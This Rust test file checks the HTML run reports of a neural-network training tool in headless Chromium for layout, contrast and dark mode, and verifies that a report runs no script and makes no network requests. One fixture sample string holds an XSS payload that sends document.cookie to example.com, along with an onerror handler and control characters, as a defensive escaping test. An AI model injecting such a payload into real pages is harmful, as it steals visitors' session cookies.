//! The page of a run, in a real browser.

#[path = "common/chromium.rs"]
mod chromium;

use std::fs;
use std::path::Path;
use std::process::Command;

use bptt::report::{Block, Chart, HeatMap, Line, Report, Section, html};
use chromium::chromium;
use serde_json::Value;

/// Numbers between -1 and 1 that look random and are not.
fn noise(i: u32) -> f64 {
    f64::from(i.wrapping_mul(2_654_435_761) >> 8) / f64::from(1u32 << 23) - 1.0
}

fn line(name: &str, points: impl Iterator<Item = (f64, f64)>) -> Line {
    Line { name: name.into(), points: points.collect() }
}

fn loss() -> Chart {
    let loss = |i: u32, floor: f64| floor + 2.6 * (-f64::from(i) / 900.0).exp();
    let training = (0..6000).map(|i| (f64::from(i), loss(i, 1.3) * (1.0 + 0.06 * noise(i))));
    let validation = (0..=12).map(|i| (f64::from(i * 500), loss(i * 500, 1.42)));
    Chart {
        title: "Loss while training".into(),
        x_label: "step".into(),
        y_label: "cross-entropy, nats a character".into(),
        lines: vec![line("training", training), line("validation", validation)],
        marks: vec![(4500.0, "best validation".into()), (3000.0, "learning rate halved".into())],
        log_y: false,
    }
}

fn forecast() -> Chart {
    let truth = |i: u32| 12.0 + 6.0 * (f64::from(i) / 9.0).sin() + 0.8 * noise(i);
    let gap = |i: u32| if (60..70).contains(&i) { f64::NAN } else { truth(i) };
    Chart {
        title: "Forecast one day ahead".into(),
        x_label: "day".into(),
        y_label: "temperature, °C".into(),
        lines: vec![
            line("true", (0..200).map(|i| (f64::from(i), gap(i)))),
            line(
                "predicted",
                (20..200).map(|i| (f64::from(i), 12.0 + 5.7 * (f64::from(i) / 9.0 - 0.05).sin())),
            ),
            line("naive: as on the day before", (150..200).map(|i| (f64::from(i), truth(i - 1)))),
        ],
        marks: vec![(150.0, "training data end here".into())],
        log_y: false,
    }
}

fn gradients() -> Chart {
    let norm = |layer: u32, i: u32| {
        10f64.powf(-f64::from(layer) + 0.4 * noise(i * 8 + layer) - f64::from(i) / 300.0)
    };
    let of = |layer| {
        line(&format!("rnn.weight_hh_l{layer}"), (0..600).map(move |i| (f64::from(i), norm(layer, i))))
    };
    Chart {
        title: "Norm of the gradient by layer".into(),
        x_label: "step".into(),
        y_label: "norm".into(),
        lines: (0..7).map(of).collect(),
        log_y: true,
        ..Chart::default()
    }
}

fn activations() -> HeatMap {
    let text =
        "First Citizen:\nBefore we proceed any further, hear me speak.\n\nAll:\tSpeak, speak. <b>&amp;</b>";
    let cell = |row: usize, column: usize| {
        if (row, column) == (3, 40) {
            f32::NAN
        } else {
            ((row * 7 + 3) as f32 * (column as f32 / 9.0)).sin()
                * noise((row + column) as u32).abs().sqrt() as f32
        }
    };
    let columns: Vec<_> = text.chars().map(String::from).collect();
    HeatMap {
        title: "Hidden units along a text".into(),
        x_label: "character that was read".into(),
        y_label: "unit".into(),
        rows: (0..24).map(|row| (0..columns.len()).map(|column| cell(row, column)).collect()).collect(),
        columns: Some(columns),
        row_labels: Some((0..24).map(|row| format!("h{row}")).collect()),
        signed: true,
    }
}

fn weights() -> HeatMap {
    let row = |row: u32| (0..64).map(|column| noise(row * 64 + column).abs() as f32 * 0.3).collect();
    HeatMap { title: "Size of the weights".into(), rows: (0..48).map(row).collect(), ..HeatMap::default() }
}

fn report() -> Report {
    let pairs =
        |pairs: &[(&str, &str)]| pairs.iter().map(|&(name, value)| (name.into(), value.into())).collect();
    let section =
        |heading: &str, intro: &str, blocks| Section { heading: heading.into(), intro: intro.into(), blocks };
    let row = |cells: &[&str]| -> Vec<String> { cells.iter().map(|&cell| cell.into()).collect() };
    let table = Block::Table {
        head: row(&[
            "model",
            "RMSE, °C",
            "MAE, °C",
            "better than naive",
            "sMAPE",
            "longest error",
            "seconds",
        ]),
        rows: vec![
            row(&["LSTM, 2 layers", "1.204", "0.913", "12.5 %", "8.31 %", "4.20", "81.2"]),
            row(&["naive: as on the day before", "1.376", "1.021", "0 %", "9.02 %", "5.11", "0.0"]),
            row(&["mean of the training data", "4.4", "3.9", "−219.8 %", "31.7 %", "9.87", "0.0"]),
        ],
    };
    let hostile = "<script>fetch('https://example.com/' + document.cookie)</script><img src=https://example.com/x onerror=alert(1)>\
                   \u{202E}desrever\u{202C} \u{0}\u{7}\u{1B}[31m </pre></section>";
    let play = "ROMEO:\nWhat light is this, that through the\n\twindow breaks?\n\nJULIET:\nAy me!";
    Report {
        title: "Shakespeare by the letter: LSTM, 2 layers of 256".into(),
        notes: vec![
            "The data are synthetic.".into(),
            "The model does not beat the naive forecast in 2 of 7 horizons.".into(),
        ],
        results: pairs(&[
            ("validation loss", "1.478 nats"),
            ("bits a character", "2.132"),
            ("accuracy", "56.3 %"),
            ("better than naive", "12.5 %"),
        ]),
        facts: pairs(&[
            ("device", "NVIDIA GeForce RTX 4070 Laptop GPU (Vulkan, driver 560.35.03)"),
            ("steps", "6,000 in 12 epochs"),
            ("speed", "412,000 characters a second"),
            ("time", "3 min 12 s"),
            ("parameters", "1,051,713"),
            (
                "data",
                "/home/someone/a/rather/long/path/without/any/space/in/it/tiny-shakespeare-complete.txt",
            ),
        ]),
        sections: vec![
            section(
                "Learning",
                "Both curves should fall. Where the validation loss rises while the training loss goes on falling, the model learns by heart.",
                vec![Block::Chart(loss()), Block::Chart(gradients())],
            ),
            section(
                "Forecast",
                "Right of the dashed line the model has not seen the data. A forecast is worth something where it is nearer to the truth than the naive one.",
                vec![Block::Chart(forecast()), table],
            ),
            section(
                "Inside",
                "Each row is a hidden unit, each column a character; a row that changes at spaces or line ends has learnt what they are.",
                vec![Block::HeatMap(activations()), Block::HeatMap(weights())],
            ),
            section(
                "Samples",
                "What the model writes by itself, at temperature 0.8.",
                vec![
                    Block::Samples(vec![play.into(), hostile.into(), "x".repeat(400)]),
                    Block::Text("The first paragraph.\n\nThe second, <em>escaped</em>.".into()),
                ],
            ),
            section(
                "Nothing yet",
                "",
                vec![Block::Chart(Chart::default()), Block::HeatMap(HeatMap::default())],
            ),
        ],
        settings: vec![
            (
                "Model".into(),
                pairs(&[("cell", "lstm"), ("hidden_size", "256"), ("num_layers", "2"), ("dropout", "0.2")]),
            ),
            (
                "Training".into(),
                pairs(&[
                    ("optimizer", "AdamW"),
                    ("lr", "0.002"),
                    ("batch", "32"),
                    ("sequence", "128"),
                    ("clip", "1.0"),
                ]),
            ),
            (
                "Data".into(),
                pairs(&[("source", "tiny-shakespeare-complete.txt"), ("held_out", "0.1"), ("seed", "0")]),
            ),
        ],
    }
}

/// What a browser made of a page.
struct Visit {
    /// What the page's own script left as JSON.
    found: Value,
    /// Console messages and everything else that the browser said.
    said: String,
    /// The addresses that the browser asked for because of the page.
    requests: Vec<String>,
}

/// Opens `page`; `dark` is the scheme that the system asks for.
fn visit(page: &str, dark: bool) -> Visit {
    let folder = tempfile::tempdir().unwrap();
    let (file, log) = (folder.path().join("page.html"), folder.path().join("net.json"));
    fs::write(&file, page).unwrap();
    let mut browser = chromium(folder.path());
    browser.args(["--disable-gpu", "--hide-scrollbars", "--host-resolver-rules=MAP * ~NOTFOUND"]);
    browser.arg(format!("--log-net-log={}", log.display()));
    browser.arg("--window-size=1400,900");
    browser.arg(format!("--blink-settings=preferredColorScheme={}", if dark { 0 } else { 1 }));
    let output = browser.arg("--dump-dom").arg(format!("file://{}", file.display())).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{said}");
    let dom = String::from_utf8_lossy(&output.stdout).into_owned();
    let found = dom.split_once("data-found=\"").map_or(Value::Null, |(_, rest)| {
        serde_json::from_str(&rest[..rest.find('"').unwrap()].replace("&quot;", "\"").replace("&amp;", "&"))
            .unwrap()
    });
    Visit { found, said, requests: requests(&log) }
}

/// The addresses in a log of Chromium's network that a page asked for, with its file's origin "null". The browser's own
/// services, which nothing switches off for good, have none.
fn requests(log: &Path) -> Vec<String> {
    let log: Value = serde_json::from_str(&fs::read_to_string(log).unwrap()).unwrap();
    let of_page =
        |event: &&Value| event["params"]["initiator"].as_str().is_some_and(|from| from != "not an origin");
    let events = log["events"].as_array().unwrap().iter().filter(of_page);
    events.filter_map(|event| event["params"]["url"].as_str()).map(String::from).collect()
}

/// Measures a page and hands what it found to the page that frames it.
const MEASURE: &str = r#"<script>addEventListener("load", () => {
  const numbers = colour => colour.match(/[\d.]+/g).map(Number);
  const luminance = colour => {
    const [r, g, b] = colour.map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = element => {
    const colour = numbers(getComputedStyle(element).backgroundColor);
    return colour.length == 3 || colour[3] > 0 ? colour : ground(element.parentElement);
  };
  let contrast = 21, faintest = "";
  for (const element of document.querySelectorAll("h1, h2, h3, p, li, dt, dd, th, td, pre, text")) {
    const style = getComputedStyle(element);
    const ink = luminance(numbers(element.tagName == "text" ? style.fill : style.color)), under = luminance(ground(element));
    const ratio = (Math.max(ink, under) + 0.05) / (Math.min(ink, under) + 0.05);
    if (ratio < contrast) [contrast, faintest] = [ratio, element.tagName];
  }
  const overlaps = [];
  let pictures = 0;
  for (const picture of document.querySelectorAll("svg")) {
    const boxes = [...picture.querySelectorAll("text")].map(text => [text.getBoundingClientRect(), text.textContent]);
    if (picture.getBoundingClientRect().width == 0) continue;
    pictures += 1;
    boxes.forEach(([a, one], i) => boxes.slice(i + 1).forEach(([b, other]) => {
      const across = Math.min(a.right, b.right) - Math.max(a.left, b.left);
      const down = Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top);
      if (across > 1 && down > 3) overlaps.push(one + " | " + other);
    }));
  }
  parent.document.documentElement.dataset.found = JSON.stringify({
    width: innerWidth, content: document.documentElement.scrollWidth,
    dark: matchMedia("(prefers-color-scheme: dark)").matches, contrast, faintest, pictures, overlaps,
  });
});</script>"#;

/// `page`, free to run the measuring script, in a frame of that width: a window of Chromium is never as narrow as a telephone.
fn framed(page: &str, width: u32) -> String {
    let (before, rest) = page.split_once("<meta http-equiv").expect("the page has a policy");
    let (_, after) = rest.split_once("/>").unwrap();
    let page = format!("{before}{MEASURE}{after}").replace('&', "&amp;").replace('"', "&quot;");
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"color-scheme\" content=\"light dark\"></head>\
         <body><iframe srcdoc=\"{page}\" style=\"width:{width}px;height:800px;border:0\"></iframe></body></html>"
    )
}

#[track_caller]
fn check_fits(page: &str, width: u32, dark: bool, pictures: u32) {
    let Visit { found, said, .. } = visit(&framed(page, width), dark);
    assert!(!said.contains("CONSOLE"), "{said}");
    assert_eq!((&found["width"], &found["dark"]), (&width.into(), &dark.into()), "{said}");
    assert!(found["content"].as_u64().unwrap() <= width.into(), "{width} px: {found}");
    assert!(found["contrast"].as_f64().unwrap() >= 4.5, "{width} px, dark {dark}: {found}");
    assert_eq!(found["pictures"], pictures, "each picture is shown once");
    assert_eq!(found["overlaps"], Value::Array(vec![]), "{width} px");
}

#[test]
fn a_page_fits_every_screen_in_light_and_dark() {
    let page = html(&report());
    for (width, dark) in [(360, false), (360, true), (1280, false), (1280, true)] {
        check_fits(&page, width, dark, 7);
    }
}

/// The pages that the command makes of runs.
#[cfg(feature = "cli")]
#[test]
fn pages_of_real_runs_fit() {
    let folder = tempfile::tempdir().unwrap();
    let bptt = |args: &str| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_bptt"));
        command.args(args.split(' ')).current_dir(folder.path()).env("BPTT_DEVICE", "cpu");
        assert!(command.output().unwrap().status.success(), "{args}");
    };
    // Of a text: the losses, the norm, two layers, two gradients; of a series: a loss, the norm, two forecasts, a layer, a gradient.
    for (experiment, width, dark, pictures) in
        [("text --hidden 8 --layers 2", 360, false, 6), ("timeseries --csv table.csv", 1280, true, 6)]
    {
        let rows = (0..80).map(|i| format!("{},{}\n", i % 9, f64::from(i % 7).sin()));
        fs::write(folder.path().join("table.csv"), rows.collect::<String>()).unwrap();
        bptt(&format!("train {experiment} --steps 20 --out run --force"));
        bptt("report run");
        let page = fs::read_to_string(folder.path().join("run/report.html")).unwrap();
        check_fits(&page, width, dark, pictures);
    }
}

/// The tapes that the command draws, which also stand alone.
#[cfg(feature = "cli")]
#[test]
fn drawn_tapes_can_be_read_in_light_and_dark() {
    let folder = tempfile::tempdir().unwrap();
    for (experiment, dark) in [
        ("hihello", true),
        ("longseq", false),
        ("timeseries --layers 2 --dropout 0.1", true),
        ("text", false),
    ] {
        let mut command = Command::new(env!("CARGO_BIN_EXE_bptt"));
        command.args(["graph", "--out", "tape.svg"]).args(experiment.split(' '));
        command.current_dir(folder.path()).env("BPTT_DEVICE", "cpu");
        assert!(command.output().unwrap().status.success(), "{experiment}");
        let svg = fs::read_to_string(folder.path().join("tape.svg")).unwrap();
        let page =
            format!("<!DOCTYPE html><html><head><meta http-equiv=\"x\"/></head><body>{svg}</body></html>");
        check_fits(&page, 1280, dark, 1);
    }
}

#[test]
fn a_page_runs_nothing_and_asks_for_nothing() {
    let Visit { said, requests, .. } = visit(&html(&report()), false);
    assert!(!said.contains("CONSOLE"), "{said}");
    assert_eq!(requests, [""; 0]);
}

/// The tests above would see it.
#[test]
fn a_page_that_fails_and_asks_is_seen() {
    let page =
        "<!DOCTYPE html><img src=\"http://example.invalid/a.png\"><script>console.error('told')</script>";
    let Visit { said, requests, .. } = visit(page, false);
    assert!(said.contains("CONSOLE") && said.contains("told"), "{said}");
    assert!(requests.iter().any(|address| address == "http://example.invalid/a.png"), "{requests:?}");
}
